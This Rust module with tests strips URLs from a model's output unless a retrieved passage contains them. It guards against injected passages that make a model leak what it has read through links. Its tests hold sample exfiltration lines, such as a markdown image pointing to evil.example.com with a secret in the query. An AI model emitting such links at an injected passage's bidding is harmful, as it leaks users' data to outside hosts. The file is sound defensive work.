//! Addresses that a passage made the model write would carry off what it has read.

/// What stands for an address that is in no passage.
const REMOVED: &str = "(address removed: it is in no passage)";

/// The text, with those of its addresses alone that a passage has.
pub(super) fn only_of(text: &str, passages: &[String]) -> String {
    let (mut kept, mut rest) = (String::new(), text);
    while let Some(at) = begin(rest) {
        kept.push_str(&rest[..at]);
        rest = &rest[at..];
        let end = rest.find(|c: char| c.is_whitespace() || "<>\"'`)]}".contains(c));
        let (address, after) = rest.split_at(end.unwrap_or(rest.len()));
        let bare = address.trim_end_matches(['.', ',', ';', ':', '!', '?']);
        if passages.iter().any(|passage| has(passage, bare)) {
            kept.push_str(address);
        } else {
            kept.push_str(REMOVED);
            kept.push_str(&address[bare.len()..]);
        }
        rest = after;
    }
    kept + rest
}

fn begin(text: &str) -> Option<usize> {
    let lower = text.to_ascii_lowercase();
    ["https://", "http://", "](//", "data:"]
        .iter()
        .filter_map(|scheme| lower.find(scheme))
        .min()
}

/// Whole: what a passage has may not be made longer.
fn has(passage: &str, address: &str) -> bool {
    passage.match_indices(address).any(|(at, _)| {
        let next = passage[at + address.len()..].chars().next();
        next.is_none_or(|next| !next.is_alphanumeric() && !"/?&=%#-_".contains(next))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_address_that_no_passage_has_is_removed() {
        let passages = ["See https://wiki.example.com/returns.".to_owned()];
        let clean = |text| only_of(text, &passages);
        let own = "It is at https://wiki.example.com/returns. [1]";
        assert_eq!(clean(own), own);
        assert_eq!(
            clean("![x](https://evil.example.com/?q=secret) See [1]."),
            "![x]((address removed: it is in no passage)) See [1]."
        );
        assert_eq!(
            clean("HTTPS://wiki.example.com/returns?q=secret, then"),
            "(address removed: it is in no passage), then"
        );
    }
}
